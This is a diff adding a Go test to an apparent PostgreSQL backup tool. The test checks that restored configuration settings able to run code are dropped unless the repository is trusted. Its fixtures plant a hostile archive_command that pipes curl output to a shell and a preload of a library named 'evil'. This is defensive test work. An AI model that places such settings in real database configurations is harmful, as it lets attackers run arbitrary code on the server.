@@ -177,3 +177,32 @@ func TestNothingOutsideIsWrittenThroughALinkOfTheManifest(t *testing.T) {
 		})
 	}
 }
+
+func TestSettingsThatRunCodeAreLeftOutUnlessTheRepositoryIsEncrypted(t *testing.T) {
+	for _, trusted := range []bool{false, true} {
+		store, dir := mem.New(), sample.Data(t)
+		for name, content := range map[string]string{
+			"postgresql.conf":      "port = 5433\nshared_preload_libraries = '/data/evil'\n",
+			"postgresql.auto.conf": "work_mem = '5MB'\narchive_command = 'curl x | sh'\n",
+		} {
+			if err := os.WriteFile(filepath.Join(dir, name), []byte(content), 0o600); err != nil {
+				t.Fatal(err)
+			}
+		}
+		sample.Claim(t, store, sample.Lineage, "shop")
+		j := &datadir.Job{
+			Store: store, Manifest: sample.Backup(t, store, sample.Lineage, "b", dir, 0, 2), Dir: filepath.Join(t.TempDir(), "pgdata"),
+			Trusted: trusted, Report: func(string, int64, int64) {},
+		}
+		if err := j.Run(t.Context()); err != nil {
+			t.Fatal(err)
+		}
+		conf, auto := read(t, j.Dir, "postgresql.conf"), read(t, j.Dir, "postgresql.auto.conf")
+		if kept := strings.Contains(conf, "evil") || strings.Contains(auto, "curl"); kept != trusted || (len(j.Dropped) == 0) != trusted {
+			t.Errorf("encrypted %t: %q and %q, left out %q", trusted, conf, auto, j.Dropped)
+		}
+		if !strings.Contains(conf, "port = 5433") || !strings.Contains(auto, "work_mem") {
+			t.Errorf("other settings are lost: %q, %q", conf, auto)
+		}
+	}
+}
